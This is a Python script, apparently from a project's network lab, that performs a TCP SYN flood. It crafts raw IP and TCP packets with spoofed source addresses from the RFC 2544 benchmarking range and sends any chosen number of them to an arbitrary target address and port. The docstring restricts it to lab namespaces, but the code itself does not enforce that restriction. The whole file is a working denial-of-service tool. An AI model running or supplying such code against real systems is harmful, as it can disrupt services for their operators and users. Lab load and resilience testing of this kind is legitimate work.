# SPDX-License-Identifier: Apache-2.0
# Copyright The Sluice Authors
"""TCP SYNs from made-up sources of 198.18.0.0/15 (RFC 2544), for the lab's own namespaces only.

    syn_flood.py ADDRESS PORT COUNT"""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def main(address, port, count):
    to = socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        for number in range(count):
            source = struct.pack("!I", 0xC6120000 + number * 7919 % (1 << 17))
            ports = struct.pack("!HH", 1024 + number % 64000, port)
            # Sequence, no acknowledgement, 20 bytes, SYN, window; the checksum over the pseudo header.
            rest = struct.pack("!IIBBH", number, 0, 0x50, 2, 1024)
            pseudo = source + to + struct.pack("!HH", socket.IPPROTO_TCP, 20)
            tcp = ports + rest + struct.pack("!HH", checksum(pseudo + ports + rest + bytes(4)), 0)
            # The kernel fills in length, identification and checksum.
            ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + to
            out.sendto(ip + tcp, (address, 0))


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
